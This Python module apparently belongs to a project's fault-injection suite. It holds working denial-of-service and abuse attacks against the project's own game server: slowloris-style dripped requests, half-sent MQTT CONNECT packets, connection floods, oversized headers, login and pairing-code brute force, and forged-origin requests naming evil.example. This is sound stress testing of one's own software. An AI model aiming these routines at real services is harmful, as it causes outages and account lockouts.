"""Attacks on what a table or a hall opens to the network, written from the documents alone: messages.md, front-door.md, security.md.

Each has a row (A1 to A10 of what was found broken once, or what else was tried then), who starts it, and what it needs of a `Target`.
One runs in a process of its own, `python -m fault_injection.siege.strangers`: its orders are one line on stdin; it prints `begun`, then
what it did.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import resource
import secrets
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextvars import ContextVar
from dataclasses import dataclass
from functools import cache
from itertools import cycle
from typing import NamedTuple
from urllib.parse import urlsplit

from fault_injection.siege.phone import PairingFailedError, Phone

STRANGER, SEAT = "stranger", "seat"
_FOREIGN = "http://evil.example"
_PATIENCE_S = 10.0
_AGAIN_S = 0.5
"""After so long somebody who was thrown off opens his connection again."""
Tally = Counter[str]
_sources: ContextVar[Iterator[str] | None] = ContextVar("sources", default=None)


@dataclass(frozen=True)
class Target:
    """Where a table or a hall can be reached: as its links, its /pair and its log say, empty where there is no such door."""

    http: str
    ws: str = ""
    """The WebSocket URL that /pair tells a phone."""
    tls: str = ""
    """`mqtts://HOST:PORT` or `mqtt://HOST:PORT`: the listener for terminals, gadgets and passes."""
    link: str = ""
    """A join link, for who has a seat."""
    login: str = ""
    """A name that logs in at a hall."""
    live: str = ""
    """The address of a hall's page for spectators."""
    rank: str = "scout"
    """What the seat declares."""
    sources: tuple[str, ...] = ()
    """Own addresses that connections come from by turns; empty: whichever the system takes."""


class Attack(NamedTuple):
    """One attack. `needs` names the fields of a target without which it has nothing to lean on."""

    name: str
    row: str
    by: str
    needs: tuple[str, ...]
    text: str
    does: Callable[[Target, float], Awaitable[Tally]]
    plies: int = 0
    """How long the game is at least when a seat begins to lean on it."""

    def run(self, target: Target, until: float) -> Tally:
        """Lean on the target until that moment of `time.monotonic`; return what was done and answered, counted."""
        return asyncio.run(self._run(target, until))

    async def _run(self, target: Target, until: float) -> Tally:
        _sources.set(cycle(target.sources) if target.sources else None)
        return await self.does(target, until)

    def fits(self, target: Target) -> bool:
        """Return whether the target has what this attack needs."""
        return all(getattr(target, need) for need in self.needs)


ATTACKS: dict[str, Attack] = {}


def _attack(
    row: str, text: str, *needs: str, by: str = STRANGER, plies: int = 0
) -> Callable[..., Callable[..., Awaitable[Tally]]]:
    def add(does: Callable[[Target, float], Awaitable[Tally]]) -> Callable[[Target, float], Awaitable[Tally]]:
        name = does.__name__.strip("_").replace("_", "-")
        ATTACKS[name] = Attack(name, row, by, needs or ("http",), text, does, plies)
        return does

    return add


# ---- lines


class _Line:
    """A connection that bytes are thrown at."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(cls, url: str, buffer: int = 65536) -> _Line:
        address = urlsplit(url)
        context = _trust() if address.scheme in ("https", "wss", "mqtts") else None
        sources = _sources.get()
        source = (next(sources), 0) if sources else None
        port = address.port or 80
        opening = asyncio.open_connection(address.hostname, port, ssl=context, limit=buffer, local_addr=source)
        return cls(*await asyncio.wait_for(opening, _PATIENCE_S))

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    def close(self) -> None:
        self.writer.transport.abort()


@cache
def _trust() -> ssl.SSLContext:
    """Return what trusts anybody, made once: making it takes as long as ten connections."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def _many(count: int, until: float, pause_s: float, once: Callable[[Tally], Awaitable[None]]) -> Tally:
    """Do something over and over, so many at once, and count how it ended; what lasts is broken off at the end."""
    tally: Tally = Counter()

    async def worker() -> None:
        while time.monotonic() < until:
            try:
                await once(tally)
            except (OSError, TimeoutError, EOFError, ValueError):
                tally["broken off"] += 1
            await asyncio.sleep(pause_s)

    workers = [asyncio.ensure_future(worker()) for _ in range(count)]
    await asyncio.wait(workers, timeout=max(0.0, until - time.monotonic()))
    for each in workers:
        each.cancel()
    await asyncio.gather(*workers, return_exceptions=True)
    return tally


async def _hold(
    url: str, count: int, until: float, *parts: bytes, drip: bytes = b"", every_s: float = 1.0, reads: bool = True
) -> Tally:
    """Keep so many connections open that said these parts, one after each answer, then drip; a lost one is opened again."""

    async def once(tally: Tally) -> None:
        line = await _Line.open(url, 65536 if reads else 1)
        try:
            tally["opened"] += 1
            for part in parts[:-1]:
                await line.send(part)
                if not (await asyncio.wait_for(line.reader.read(4096), _PATIENCE_S)).startswith(b"HTTP/1.1 101"):
                    tally["turned away"] += 1
                    return
            await line.send(b"".join(parts[-1:]))
            await _linger(line, until, drip, every_s, reads)
            tally["closed by the other side"] += time.monotonic() < until
        finally:
            line.close()

    return await _many(count, until, _AGAIN_S, once)


async def _linger(line: _Line, until: float, drip: bytes, every_s: float, reads: bool) -> None:
    """Stay, and drip, until the other side has enough of it."""
    while (left := until - time.monotonic()) > 0:
        if not reads:
            await asyncio.sleep(min(every_s, left))
        else:
            with contextlib.suppress(TimeoutError):
                if not await asyncio.wait_for(line.reader.read(4096), min(every_s, left) if drip else left):
                    return
        if drip:
            await line.send(drip)


async def _ask(url: str, method: str, path: str, body: bytes = b"", **headers: str) -> int:
    """Return the status that is answered to one request. Raises `ValueError` and `EOFError` where there is none."""
    line = await _Line.open(url)
    try:
        await line.send(_request(url, method, path, len(body), **headers) + body)
        first = await asyncio.wait_for(line.reader.readline(), 30)
        return int(first.split()[1]) if first else _hung_up()
    finally:
        line.close()


def _hung_up() -> int:
    raise EOFError


def _request(url: str, method: str, path: str, length: int = 0, **headers: str) -> bytes:
    told = {"Host": urlsplit(url).netloc, "Connection": "close", "Content-Type": "application/json"}
    told |= {name.replace("_", "-"): value for name, value in headers.items()}
    if method == "POST":
        told["Content-Length"] = str(length)
    return f"{method} {path} HTTP/1.1\r\n{''.join(f'{name}: {value}' + chr(13) + chr(10) for name, value in told.items())}\r\n".encode()


async def _asking(
    count: int, until: float, pause_s: float, asks: Iterator[tuple[str, str, bytes, dict[str, str]]], url: str
) -> Tally:
    """Ask, so many at once, and count the statuses."""

    async def once(tally: Tally) -> None:
        method, path, body, headers = next(asks)
        tally[str(await _ask(url, method, path, body, **headers))] += 1

    return await _many(count, until, pause_s, once)


# ---- MQTT by WebSocket


def _upgrade(url: str, origin: str = "") -> bytes:
    key = base64.b64encode(secrets.token_bytes(16)).decode()
    return _request(
        *(url, "GET", urlsplit(url).path or "/"),
        Connection="Upgrade",
        Upgrade="websocket",
        Sec_WebSocket_Version="13",
        Sec_WebSocket_Key=key,
        Sec_WebSocket_Protocol="mqtt",
        Origin=origin or f"http://{urlsplit(url).hostname}:{urlsplit(url).port}",
    )


def _frame(data: bytes) -> bytes:
    """Return a client's binary frame; its mask is zero, which is as good as any."""
    size = bytes([0x80 | len(data)]) if len(data) < 126 else b"\xfe" + struct.pack(">H", len(data))
    return b"\x82" + size + bytes(4) + data


def _text(value: str) -> bytes:
    return struct.pack(">H", len(value)) + value.encode()


def _length(number: int) -> bytes:
    """Return a count as MQTT writes it: seven bits a byte, the low ones first."""
    out = b""
    while True:
        number, low = divmod(number, 128)
        out += bytes([low | (128 if number else 0)])
        if not number:
            return out


def _connect(user: str, properties: int | None = None) -> bytes:
    """Return a whole CONNECT with a wrong password; of MQTT 5 with so many properties, else of MQTT 3.1.1."""
    extra = b"" if properties is None else (b"\x26" + _text("k") + _text("v")) * properties
    head = _text("MQTT") + bytes([4 if properties is None else 5, 0xC2]) + struct.pack(">H", 30)
    if properties is not None:
        head += _length(len(extra)) + extra
    rest = head + _text(user) + _text(user) + _text(secrets.token_hex(16))
    return b"\x10" + _length(len(rest)) + rest


_BEGUN = _text("MQTT") + b"\x04\xc2\x00\x1e"
_ANNOUNCED = b"\x10" + _length(500_000) + _BEGUN
"""The begin of a CONNECT of 500 kB: 202 of them are 96 MiB, if somebody keeps room for what is announced."""


@_attack(
    "A1", "202 WebSockets announce a CONNECT of 500 kB and never finish it, as many one of 20 kB and of 1 kB", "ws"
)
async def _half_connects(target: Target, until: float) -> Tally:
    def held(size: int) -> Awaitable[Tally]:
        begun = _frame(b"\x10" + _length(size) + _BEGUN)
        return _hold(target.ws, 202, until, _upgrade(target.ws), begun)

    large, middling, small = await asyncio.gather(held(500_000), held(20_000), held(1_000))
    return large + middling + small


@_attack("A1", "202 WebSockets do so with 256 MiB, the most that MQTT can announce", "ws")
async def _huge_connects(target: Target, until: float) -> Tally:
    return await _hold(target.ws, 202, until, _upgrade(target.ws), _frame(b"\x10\xff\xff\xff\x7f" + _BEGUN))


@_attack("A1", "202 WebSockets send a CONNECT of 4,000 bytes, a byte a second", "ws")
async def _dripped_connects(target: Target, until: float) -> Tally:
    begun = _frame(b"\x10" + _length(4000) + _text("MQTT"))
    return await _hold(target.ws, 202, until, _upgrade(target.ws), begun, drip=_frame(b"x"))


@_attack("A1", "one CONNECT after the other whose password is wrong, 16 at once", "ws")
async def _wrong_passwords(target: Target, until: float) -> Tally:
    return await _whole_connects(target.ws, until, None)


@_attack("A1", "the same with 500 properties of MQTT 5, and with 200,000", "ws")
async def _many_properties(target: Target, until: float) -> Tally:
    few, many = await asyncio.gather(
        _whole_connects(target.ws, until, 500), _whole_connects(target.ws, until, 200_000, 2)
    )
    return few + many


async def _whole_connects(url: str, until: float, properties: int | None, count: int = 16) -> Tally:
    async def once(tally: Tally) -> None:
        line = await _Line.open(url)
        try:
            await line.send(_upgrade(url))
            await asyncio.wait_for(line.reader.readuntil(b"\r\n\r\n"), _PATIENCE_S)
            packet = _connect("red", properties)
            for at in range(0, len(packet), 60_000):
                await line.send(_frame(packet[at : at + 60_000]))
            tally["answered" if await asyncio.wait_for(line.reader.read(64), _PATIENCE_S) else "hung up"] += 1
        finally:
            line.close()

    return await _many(count, until, 0, once)


@_attack("A2", "1,300 WebSockets that say nothing", "ws")
async def _idle_websockets(target: Target, until: float) -> Tally:
    return await _hold(target.ws, 1300, until, _upgrade(target.ws), b"")


@_attack("A2", "1,300 connections that say nothing")
async def _silent_connections(target: Target, until: float) -> Tally:
    return await _hold(target.http, 1300, until, b"")


@_attack("A2", "300 connections to the listener of terminals and passes that never finish a CONNECT", "tls")
async def _half_connects_of_terminals(target: Target, until: float) -> Tally:
    small = b"\x10" + _length(60_000) + _BEGUN  # no larger than it may be
    too_large, allowed = await asyncio.gather(*(_hold(target.tls, 150, until, begun) for begun in (_ANNOUNCED, small)))
    return too_large + allowed


@_attack("A3", "300 requests whose head never ends, a byte a second")
async def _half_heads(target: Target, until: float) -> Tally:
    return await _hold(target.http, 300, until, _request(target.http, "GET", "/")[:-2] + b"X: ", drip=b"x")


@_attack("A3", "300 requests whose body never ends, a byte a second")
async def _half_bodies(target: Target, until: float) -> Tally:
    return await _hold(target.http, 300, until, _request(target.http, "POST", "/pair", 4000), drip=b"x")


@_attack("A3", "300 connections that ask for page after page and read none")
async def _unread_answers(target: Target, until: float) -> Tally:
    page = _request(target.http, "GET", "/", Connection="keep-alive")
    return await _hold(target.http, 300, until, page * 8, drip=page, reads=False)


@_attack("129th", "300 spectators' streams that are read, and 300 that are not", "live")
async def _live_streams(target: Target, until: float) -> Tally:
    asked = _request(target.live, "GET", "/api/live")
    read, unread = await asyncio.gather(
        *(_hold(target.live, 300, until, asked, reads=reads) for reads in (True, False))
    )
    return read + unread


@_attack("A4", "64 connections whose headers never end")
async def _fat_heads(target: Target, until: float) -> Tally:
    async def once(tally: Tally) -> None:
        line = await _Line.open(target.http)
        try:
            await line.send(_request(target.http, "GET", "/")[:-2])
            while time.monotonic() < until:
                await line.send((b"X: " + b"x" * 1000 + b"\r\n") * 16)
                tally["KiB sent"] += 16
        finally:
            line.close()

    return await _many(64, until, 0, once)


@_attack("A4", "cookies of 15 and of 64 KiB, 16 at once")
async def _fat_cookies(target: Target, until: float) -> Tally:
    sizes = cycle((15_000, 64_000))
    asks = (("GET", "/api/me", b"", {"Cookie": 'hallmarshal="' + "\\" * size}) for size in sizes)
    return await _asking(16, until, 0, asks, target.http)


def _posts(path: str, body: Callable[[], bytes]) -> Iterator[tuple[str, str, bytes, dict[str, str]]]:
    while True:
        yield "POST", path, body(), {"X_Hallmarshal": "1"}  # as the hall's own page sends it


def _password(name: str) -> bytes:
    return json.dumps({"name": name, "password": secrets.token_hex(8)}).encode()


@_attack("A4", "200 logins at once", "login")
async def _logins(target: Target, until: float) -> Tally:
    return await _asking(200, until, 0, _posts("/api/login", lambda: _password(secrets.token_hex(4))), target.http)


@_attack("A8", "wrong passwords for the chief's name, 4 a second", "login")
async def _locked_chief(target: Target, until: float) -> Tally:
    return await _asking(1, until, 0.25, _posts("/api/login", lambda: _password(target.login)), target.http)


def _code() -> bytes:
    return json.dumps(
        {"token": base64.urlsafe_b64encode(secrets.token_bytes(16)).decode().rstrip("="), "commitment": "A" * 43}
    ).encode()


@_attack("A7", "another site's page sends codes and logins, and pages under another name")
async def _foreign_pages(target: Target, until: float) -> Tally:
    plain = {"Content_Type": "text/plain"}
    asks = cycle(
        [
            ("POST", "/pair", _code(), {"Host": "evil.example"}),
            ("POST", "/pair", _code(), {"Origin": _FOREIGN, **plain}),
            ("POST", "/pair", _code(), plain),
            ("POST", "/api/login", _password("x"), {"Origin": _FOREIGN, **plain}),
            ("GET", "/", b"", {"Host": "evil.example"}),
        ]
    )
    return await _asking(8, until, 0.01, asks, target.http)


@_attack("A7", "another site's page opens 300 WebSockets", "ws")
async def _foreign_websockets(target: Target, until: float) -> Tally:
    return await _hold(target.ws, 300, until, _upgrade(target.ws, _FOREIGN), _frame(_ANNOUNCED))


@_attack("A9", "one code a second is typed", "ws")
async def _typed_codes(target: Target, until: float) -> Tally:
    return await _asking(1, until, 1, _posts("/pair", _code), target.http)


@_attack("A9", "codes as fast as they are answered, 8 at once", "ws")
async def _codes_by_force(target: Target, until: float) -> Tally:
    return await _asking(8, until, 0, _posts("/pair", _code), target.http)


@_attack("A10", "lists of kept games, replays of made-up names and keys that have no seat, 16 at once", "ws")
async def _kept_games(target: Target, until: float) -> Tally:
    plain = {"Content_Type": "application/json"}
    key = {"key": base64.b64encode(secrets.token_bytes(32)).decode(), "sealed": "A" * 200}
    asks = cycle(
        [
            ("POST", "/games/list", b'{"player": "a"}', plain),
            ("POST", "/games/enter", json.dumps(key).encode(), plain),
            ("GET", "/games/2026-11-21-201500-a1b2c3", b"", {}),
            ("GET", "/games/2026-11-21-201500-a1b2c3/game.html", b"", {}),
        ]
    )
    return await _asking(16, until, 0, asks, target.http)


# ---- who has a seat


async def _seated(target: Target, until: float, rate: float, act: Callable[[Phone, int], None]) -> Tally:
    """Take the seat of the link, play, and do something so many times a second, until thrown off."""
    tally: Tally = Counter()
    phone = await asyncio.to_thread(Phone, target.link, target.rank)
    phone.playing = False
    while time.monotonic() < until and not phone.refused:
        if phone.here.is_set() and phone.view:
            act(phone, tally["said"])
            tally["said"] += 1
        await asyncio.sleep(1 / rate)
    tally.update({"accepted": phone.accepted, "questions": phone.questions, "thrown off": int(phone.refused)})
    tally["histories"] = phone.histories
    await asyncio.to_thread(phone.close)
    return tally


async def _sit(target: Target, until: float) -> Tally:
    def turn(_phone: Phone, _: int) -> None:
        busy_until = time.monotonic() + 0.02
        while time.monotonic() < busy_until:
            pass

    return await _seated(target, until, 50, turn)


SITS = Attack("sits", "", SEAT, ("link",), "nobody: a seat that does nothing, and turns", _sit)
"""What attacks by a seat are held against."""


@_attack("A5", "a seat says hello 25 times a second, and never that it got an answer", "link", by=SEAT)
async def _hellos(target: Target, until: float) -> Tally:
    return await _seated(target, until, 25, lambda phone, _: phone.say("hello", ack=0))


@_attack("A5", "a seat pours out nonsense, 500 a second", "link", by=SEAT)
async def _nonsense(target: Target, until: float) -> Tally:
    return await _seated(target, until, 500, lambda phone, _: phone.pour(secrets.token_bytes(296)))


@_attack("A6", "a seat pauses whenever its own clock runs", "link", by=SEAT)
async def _own_pauses(target: Target, until: float) -> Tally:
    def pause(phone: Phone, _: int) -> None:
        if phone.view.get("clocks", {}).get(phone.seat, {}).get("runs"):
            phone.say("pause")

    return await _seated(target, until, 5, pause)


@_attack("", "a seat offers a draw, to break off, to take back, ten a second", "link", by=SEAT)
async def _offers(target: Target, until: float) -> Tally:
    def offer(phone: Phone, number: int) -> None:
        word = ("offer-draw", "offer-abort", "offer-take-back", "offer-void")[number % 4]
        phone.say(word, *([max(0, phone.view["ply"] - 1)] if number % 4 > 1 else []))

    return await _seated(target, until, 10, offer)


_LONG = 600
"""Plies of a long game: what is missed of it is thousands of events."""
_AT_ONCE = 90
"""Histories that a seat may ask for at once: fewer than may be on their way to it, and with their state less than 1 MiB."""
_PAYLOADS_A_SECOND = 20
NO_NUMBERS: tuple[tuple[object, ...], ...] = (
    *((), (0, 0), (-1,), (2**31,), (2**63,), (-(10**60),), (10**150,), (0.5,), (1e308,), (float("nan"),)),
    *((float("-inf"),), (None,), (True,), ("",), ("0",), ("\0" * 20,), ("\ud800",), ([],), ([0],), ({},)),
    *(({"heard": 0},), (json.loads("[" * 60 + "]" * 60),)),
)
"""Fields of a `missed` that no page allows."""


def missed_from(last: int, number: int) -> int:
    """Return after which event an asker asks next where `last` is the game's last one: both ends, beyond it, and everywhere between."""
    ends = (0, 1, max(0, last - 1), last, last + 1, 2**31 - 1)
    return ends[number // 2 % len(ends)] if number % 2 else number * 7919 % (last + 1)


def _missing(text: str) -> Callable[..., Callable[..., Awaitable[Tally]]]:
    return _attack("", text, "link", by=SEAT, plies=_LONG)


def _ask_missed(phone: Phone, number: int) -> None:
    """Ask from everywhere; sometimes by a hello, and sometimes under the id of what was asked first, which is a repeat."""
    word, again = "hello" if number % 16 == 7 else "missed", "first" if number % 16 in (1, 11) else ""
    phone.say(word, 0 if again else missed_from(phone.view["seq"], number), again=again)


@_missing("a seat asks 20 times a second what it missed of 600 plies: all, from everywhere, beyond the end")
async def _missed(target: Target, until: float) -> Tally:
    return await _seated(target, until, _PAYLOADS_A_SECOND, _ask_missed)


@_missing("a seat asks 90 times at once for all of 600 plies, again and again")
async def _missed_at_once(target: Target, until: float) -> Tally:
    def ask(phone: Phone, _: int) -> None:
        for _ in range(_AT_ONCE):
            phone.say("missed", 0)

    return await _seated(target, until, _PAYLOADS_A_SECOND / _AT_ONCE, ask)


@_missing("a seat asks so 20 times a second and takes none of the answers")
async def _missed_unread(target: Target, until: float) -> Tally:
    def ask(phone: Phone, number: int) -> None:
        phone.client.manual_ack_set(True)
        phone.say("missed", missed_from(phone.view["seq"], number), ack=0)

    return await _seated(target, until, _PAYLOADS_A_SECOND, ask)


@_missing("a seat asks so 500 times a second, every other time with what is no number, until it is thrown off")
async def _missed_by_force(target: Target, until: float) -> Tally:
    def ask(phone: Phone, number: int) -> None:
        if number % 2:
            phone.say("missed", *NO_NUMBERS[number // 2 % len(NO_NUMBERS)], large=number % 6 == 5)
        else:
            _ask_missed(phone, number // 2)

    return await _seated(target, until, 500, ask)


def main() -> None:
    """Run the attack of the line on stdin: `attack`, `core` (null: any), `seconds`, `target`; print its tally as JSON."""
    orders = json.loads(sys.stdin.readline())
    if orders["core"] is not None:
        os.sched_setaffinity(0, {orders["core"]})
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536) if hard > 0 else 65536, hard))
    attack = {**ATTACKS, SITS.name: SITS}.get(orders["attack"])
    print("begun", flush=True)
    until = time.monotonic() + orders["seconds"]
    tally: Tally = Counter()
    if attack is None:  # the dummy load of the baseline
        while time.monotonic() < until:
            tally["turns"] += 1
    else:
        try:
            tally = attack.run(Target(**orders["target"]), until)
        except (PairingFailedError, OSError) as error:
            tally[f"failed: {error}"] += 1
    print(json.dumps(tally), flush=True)


if __name__ == "__main__":
    main()
